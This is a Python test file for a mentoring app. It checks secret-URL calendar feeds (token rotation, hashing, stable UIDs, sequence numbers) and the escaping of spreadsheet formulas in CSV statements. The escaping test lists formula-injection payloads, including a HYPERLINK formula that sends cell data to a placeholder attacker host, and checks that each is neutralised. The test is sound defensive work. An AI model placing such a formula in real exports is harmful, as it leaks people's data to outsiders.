"""iCalendar feeds by secret URL (rotate, stable UID, growing SEQUENCE, Europe/Paris times) and the CSV
statement, through HTTP on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import httpx
from icalendar import Calendar

from domain.models import CalendarFeed, Session
from domain.services import billing
from tests import factories
from tests.conftest import Backend, GraphQLClient

ROTATE = """mutation($input: RotateCalendarFeedInput!) { rotateCalendarFeed(input: $input) {
  __typename ... on CalendarFeedPayload { token url } ... on UserError { code } } }"""


async def events(client: httpx.AsyncClient, url: str) -> dict[str, dict[str, object]]:
    response = await client.get(url)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/calendar")
    cal = Calendar.from_ical(response.content)
    assert [tz["TZID"] for tz in cal.walk("VTIMEZONE")] == ["Europe/Paris"]
    return {
        str(e["UID"]): {
            "start": e.decoded("DTSTART"),
            "tzid": e["DTSTART"].params.get("TZID"),
            "sequence": int(e["SEQUENCE"]),
            "status": str(e["STATUS"]),
            "text": str(e.get("DESCRIPTION", "")) + str(e["SUMMARY"]),
        }
        for e in cal.walk("VEVENT")
    }


async def test_feeds_by_secret_url_with_stable_uid_and_growing_sequence(
    db: Backend, gql: GraphQLClient, client: httpx.AsyncClient
) -> None:
    path, projects = await factories.catalogue(1)
    mentor = await factories.mentor(projects)
    student = await factories.student(path, projects[0])
    m = await factories.pair(student, mentor)  # discovery Tuesday 2026-11-24 19:00 Paris
    discovery = await Session.get(mentorship_id=m.id)
    await Session.filter(id=discovery.id).update(private_comment="never in a feed")

    mentor_feed = (await gql(ROTATE, {"input": {"owner": "MENTOR", "ownerId": mentor.id}}))[
        "rotateCalendarFeed"
    ]
    student_feed = (await gql(ROTATE, {"input": {"owner": "STUDENT", "ownerId": student.id}}))[
        "rotateCalendarFeed"
    ]
    assert mentor_feed["url"] == f"http://testserver/calendar/{mentor_feed['token']}.ics"
    stored = await CalendarFeed.get(mentor_id=mentor.id)
    assert mentor_feed["token"] not in stored.token_hash and len(stored.token_hash) == 64  # a hash only

    uid = f"session-{discovery.id}@sessions.mentormatch"
    for url in (mentor_feed["url"], student_feed["url"]):
        found = await events(client, url)
        assert found[uid]["start"] == datetime.fromisoformat("2026-11-24T19:00+01:00")
        assert found[uid]["tzid"] == "Europe/Paris"
        assert found[uid]["sequence"] == 0 and found[uid]["status"] == "CONFIRMED"
        assert "never in a feed" not in str(found[uid]["text"])

    moved = await gql(
        """mutation($id: Int!) { rescheduleSession(input: {id: $id, startsAt: "2036-11-25T18:00"}) {
             __typename ... on SessionPayload { session { sequence } } } }""",
        {"id": discovery.id},
    )
    assert moved["rescheduleSession"]["session"]["sequence"] == 1
    # Far ahead, so that the cancellation is always more than 24 h before, whatever today is.
    cancelled = await gql(
        "mutation($id: Int!) { cancelSession(id: $id) { __typename } }", {"id": discovery.id}
    )
    assert cancelled["cancelSession"]["__typename"] == "SessionPayload"
    found = await events(client, student_feed["url"])
    assert found[uid]["sequence"] == 2 and found[uid]["status"] == "CANCELLED"  # same UID, newer SEQUENCE
    assert found[uid]["start"] == datetime.fromisoformat("2036-11-25T18:00+01:00")

    rotated = (await gql(ROTATE, {"input": {"owner": "STUDENT", "ownerId": student.id}}))[
        "rotateCalendarFeed"
    ]
    assert (await client.get(student_feed["url"])).status_code == 404  # the old URL is dead at once
    assert uid in await events(client, rotated["url"])
    assert (await client.get("/calendar/not-a-token.ics")).status_code == 404
    missing = await gql(ROTATE, {"input": {"owner": "MENTOR", "ownerId": 999}})
    assert missing["rotateCalendarFeed"] == {"__typename": "NotFoundError", "code": "NOT_FOUND"}


async def test_csv_statement_route(db: Backend, client: httpx.AsyncClient) -> None:
    _, projects = await factories.catalogue(1)
    mentor = await factories.mentor(projects)
    response = await client.get(f"/statements/{mentor.id}/2026-11.csv")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert response.text.splitlines() == [
        "session_id,starts_at_paris,student_id,student,kind,status,level,amount_eur",
        ",,,total (0 sessions),,,,0.00",
    ]
    assert (await client.get(f"/statements/{mentor.id}/2026-13.csv")).status_code == 400
    assert (await client.get("/statements/999/2026-11.csv")).status_code == 404


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
]


async def test_csv_statement_escapes_formulas_in_names(db: Backend, client: httpx.AsyncClient) -> None:
    """OWASP's rule: a cell starting with = + - @ tab or CR gets a leading single quote."""
    from domain.enums import Role
    from domain.services.tokens import issue_token

    path, projects = await factories.catalogue(1)
    mentor = await factories.mentor(projects)
    student = await factories.student(path, projects[0])
    await factories.pair(student, mentor)  # the discovery session, 2026-11-24 19:00 Paris
    gql = GraphQLClient(client)
    discovery = await Session.get(mentor_id=mentor.id)
    ended = await gql(
        "mutation($id: Int!) { endSession(input: {id: $id, status: COMPLETED}) { __typename } }",
        {"id": discovery.id},
    )
    assert ended["endSession"]["__typename"] == "EndSessionPayload"
    student_token, _ = await issue_token(Role.STUDENT, student_id=student.id)
    rename = (
        "mutation($id: Int!, $name: String!) { updateStudent(input: {id: $id, name: $name}) { __typename } }"
    )
    for formula in FORMULAS:
        renamed = await client.post(
            "/graphql",
            json={"query": rename, "variables": {"id": student.id, "name": formula}},
            headers={"authorization": f"Bearer {student_token}"},
        )
        assert renamed.json()["data"]["updateStudent"]["__typename"] == "StudentPayload", renamed.text
        response = await client.get(f"/statements/{mentor.id}/2026-11.csv")
        assert response.status_code == 200
        rows = list(csv.reader(io.StringIO(response.text)))
        assert rows[1][3] == "'" + formula, rows
        statement = await gql(
            'query($m: Int!) { mentorStatement(mentorId: $m, month: "2026-11") { csv } }', {"m": mentor.id}
        )
        assert statement["mentorStatement"]["csv"] == response.text
    # Names are stored stripped, so a leading tab or CR never reaches a statement; the rule covers them too.
    assert [billing.spreadsheet_safe(c) for c in ("\tSUM(1)", "\r=1", "Ana", 3)] == [
        "'\tSUM(1)",
        "'\r=1",
        "Ana",
        3,
    ]
